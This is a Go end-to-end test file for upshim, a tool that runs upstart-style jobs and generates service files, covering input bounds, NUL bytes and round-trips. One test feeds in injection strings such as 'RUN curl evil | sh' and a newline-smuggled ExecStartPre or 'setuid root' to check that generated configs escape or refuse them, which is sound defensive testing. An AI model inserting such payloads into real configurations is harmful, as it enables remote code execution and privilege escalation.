//go:build linux

package e2e

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// runUpshim runs upshim to its end and returns its exit status and stderr.
func runUpshim(t *testing.T, args ...string) (int, string) {
	t.Helper()
	r := startShim(t, args...)
	code := r.wait()
	return code, r.stderr.String()
}

// An endless stream as --env-file or --job is refused at the bound, with
// exit 2 naming the flag and the file, and little memory: upshim runs
// under a 1 GB address-space limit, which reading /dev/zero whole runs
// out of (the Go runtime's own "out of memory" is exit 2 too, hence the
// message check).
func TestEnvFileAndJobReadsBounded(t *testing.T) {
	t.Parallel()
	for flag, want := range map[string]string{
		"--env-file": "upshim: --env-file /dev/zero: larger than 1 MiB\n",
		"--job":      "upshim: --job /dev/zero: larger than 4 MiB\n",
	} {
		args := []string{"-c", `ulimit -v 1000000 && exec "$@"`, "sh", upshimBinary(t), flag, "/dev/zero"}
		if flag == "--env-file" {
			args = append(args, "--", "true")
		}
		r := startShimCmd(t, exec.Command("/bin/sh", args...))
		if code := r.wait(); code != 2 || r.stderr.String() != want {
			t.Errorf("%s /dev/zero: exit %d, stderr:\n%s", flag, code, r.stderr)
		}
	}
}

// A NUL in an env file, an --env value or a job file stops upshim with
// exit 2 naming the file and line, before anything runs; exec would fail
// with EINVAL.
func TestEnvFileRefusesNUL(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	env, job := filepath.Join(dir, "nul.env"), filepath.Join(dir, "nul.conf")
	os.WriteFile(env, []byte("A=1\nFOO=a\x00b\n"), 0o644)
	os.WriteFile(job, []byte("exec touch "+dir+"/ran\nenv FOO=a\x00b\n"), 0o644)
	code, stderr := runUpshim(t, "--env-file", env, "--", "touch", dir+"/ran")
	if code != 2 || !strings.Contains(stderr, "upshim: --env-file "+env+":2: a NUL byte") {
		t.Errorf("env file with a NUL: exit %d, stderr:\n%s", code, stderr)
	}
	code, stderr = runUpshim(t, "--job", job)
	if code != 2 || !strings.Contains(stderr, "upshim: --job "+job+":2: a NUL byte") {
		t.Errorf("job with a NUL: exit %d, stderr:\n%s", code, stderr)
	}
	if _, err := os.Stat(dir + "/ran"); err == nil {
		t.Error("the service ran")
	}
}

// \# in an exec line is no comment: sh gets it and prints a#b, as under
// upstart.
func TestJobEscapedHash(t *testing.T) {
	t.Parallel()
	job := filepath.Join(t.TempDir(), "hash.conf")
	os.WriteFile(job, []byte("exec echo a\\#b # a comment\n"), 0o644)
	r := startShim(t, "--job", job)
	if l := r.line(); l != "a#b" {
		t.Fatalf("printed %q", l)
	}
	if code := r.wait(); code != 0 {
		t.Fatalf("exit %d; stderr:\n%s", code, r.stderr)
	}
}

// generateLines runs upshim generate and returns its exit status, its
// output's lines and stderr.
func generateLines(t *testing.T, args ...string) (int, []string, string) {
	t.Helper()
	cmd := exec.Command(upshimBinary(t), append([]string{"generate"}, args...)...)
	var stderr strings.Builder
	cmd.Stderr = &stderr
	out, err := cmd.Output()
	code := 0
	if err != nil {
		code = cmd.ProcessState.ExitCode()
	}
	return code, strings.Split(strings.TrimSuffix(string(out), "\n"), "\n"), stderr.String()
}

// A newline (or another control character) in an argument or --name
// must not start a line of its own in a unit, job or Dockerfile: systemd
// and Dockerfile output escape it in ExecStart= and ENTRYPOINT, the
// header comment is escaped for all three, and where a format has no
// escape (Description=, an upstart job) generate exits 2 naming the
// value. Every line printed is checked against what the format's
// generator writes.
func TestGenerateRefusesLineInjection(t *testing.T) {
	t.Parallel()
	inject := []string{"\n[Service]\nExecStartPre=/bin/touch /tmp/pwned", "\nRUN curl evil | sh", "\nsetuid root", "\r\nsetuid root", "\x0bx\x7f"}
	live := map[string]map[string]bool{
		"systemd": {"[Unit]": true, "Description": true, "[Service]": true, "Type": true, "ExecStart": true, "ExecReload": true,
			"KillMode": true, "TimeoutStopSec": true, "TimeoutStartSec": true, "Restart": true, "[Install]": true, "WantedBy": true},
		"dockerfile": {"COPY": true, "STOPSIGNAL": true, "ENTRYPOINT": true},
		"upstart":    {"description": true, "start": true, "stop": true, "kill": true, "exec": true},
	}
	for kind, keys := range live {
		for _, bad := range inject {
			for _, args := range [][]string{
				{"--pre-start", "echo" + bad, "--", "/bin/sh", "-c", "echo hi" + bad},
				{"--name", "svc" + bad, "--", "/bin/true"},
				{"--", "/bin/true" + bad},
			} {
				code, lines, stderr := generateLines(t, append([]string{kind}, args...)...)
				// The name a unit's Description= holds is COMMAND's base
				// name, which may or may not hold the control character.
				refused := kind == "upstart" || (kind == "systemd" && args[0] == "--name")
				if kind == "systemd" && args[0] == "--" {
					refused = code == 2
				}
				switch {
				case refused && (code != 2 || len(lines) != 1 || lines[0] != "" || !strings.Contains(stderr, "a control character")):
					t.Errorf("generate %s %q: exit %d, want 2 with no output; stderr %s", kind, args, code, stderr)
				case refused && args[0] == "--name" && !strings.Contains(stderr, "upshim: generate "+kind+": --name \"svc"):
					t.Errorf("generate %s %q: the error does not name --name: %s", kind, args, stderr)
				case !refused && code != 0:
					t.Errorf("generate %s %q: exit %d: %s", kind, args, code, stderr)
				}
				seen := map[string]int{}
				for i, l := range lines {
					key := strings.TrimSpace(l)
					if key == "" || (i == 0 && strings.HasPrefix(l, "# Generated by upshim ")) || (kind == "dockerfile" && strings.HasPrefix(l, "# docker stop ")) {
						continue
					}
					if kind == "systemd" {
						key, _, _ = strings.Cut(key, "=")
					} else {
						key, _, _ = strings.Cut(key, " ")
					}
					if seen[key]++; !keys[key] || (seen[key] > 1 && key != "stop") || l != strings.TrimLeft(l, " \t") {
						t.Errorf("generate %s %q: line %d is not the generator's: %q\n%s", kind, args, i+1, l, strings.Join(lines, "\n"))
					}
				}
			}
		}
	}
}

// What generate upstart prints runs under upshim --job as the command
// itself runs, with quotes, blanks, backslashes, $, % and # in its
// arguments.
func TestGenerateUpstartRoundTrip(t *testing.T) {
	t.Parallel()
	command := []string{"/bin/sh", "-c", `printf '[%s]' "$@"; echo`, "sh",
		"it's", "two  words", `"quoted"`, "$HOME", `back\slash`, `end\`, "#hash", "a # b", "%n", "", "'", `\'`}
	r := startShim(t, append([]string{"--"}, command...)...)
	want := r.line()
	if code := r.wait(); code != 0 || !strings.Contains(want, "[it's][two  words]") {
		t.Fatalf("the command itself: exit %d, printed %q; stderr:\n%s", code, want, r.stderr)
	}
	code, lines, stderr := generateLines(t, append([]string{"upstart", "--"}, command...)...)
	if code != 0 {
		t.Fatalf("generate upstart: exit %d: %s", code, stderr)
	}
	job := filepath.Join(t.TempDir(), "roundtrip.conf")
	os.WriteFile(job, []byte(strings.Join(lines, "\n")+"\n"), 0o644)
	r = startShim(t, "--job", job)
	if got := r.line(); got != want {
		t.Errorf("the generated job printed\n%q, the command\n%q; the job:\n%s", got, want, strings.Join(lines, "\n"))
	}
	if code := r.wait(); code != 0 {
		t.Errorf("the generated job: exit %d; stderr:\n%s", code, r.stderr)
	}
}

// longScript is a script block of over 200 KiB, more than the kernel lets
// one argument be (128 KiB), whose last line prints what the lines before
// it built: word, then the number of lines.
func longScript(word string) string {
	var b strings.Builder
	b.WriteString("n=0\n")
	for b.Len() < 200<<10 {
		b.WriteString("    n=$((n + 1)) # a line to make the script long enough to need a descriptor\n")
	}
	fmt.Fprintf(&b, "    echo %s $n\n", word)
	return b.String()
}

// A script block longer than an argument may be reaches /bin/sh on a
// descriptor, as upstart passed it, in the main process and in hooks, and
// under another user; it failed with E2BIG (exit 126).
func TestJobLongScript(t *testing.T) {
	t.Parallel()
	testUser(t) // root, and the user upshimtest
	dir := t.TempDir()
	os.Chmod(dir, 0o755)
	main, hook := longScript("main"), longScript("pre-start")
	lines := strings.Count(main, "\n") - 2
	for _, setuid := range []string{"", "setuid upshimtest\n"} {
		job := filepath.Join(dir, "long.conf")
		os.WriteFile(job, []byte(setuid+"pre-start script\n"+hook+"end script\nscript\n"+main+"end script\n"), 0o644)
		r := startShim(t, "--job", job)
		for _, want := range []string{fmt.Sprintf("pre-start %d", lines), fmt.Sprintf("main %d", lines)} {
			if l := r.line(); l != want {
				t.Fatalf("%sprinted %q, want %q", setuid, l, want)
			}
		}
		if code := r.wait(); code != 0 {
			t.Fatalf("%sexit %d; stderr:\n%s", setuid, code, r.stderr)
		}
	}
}
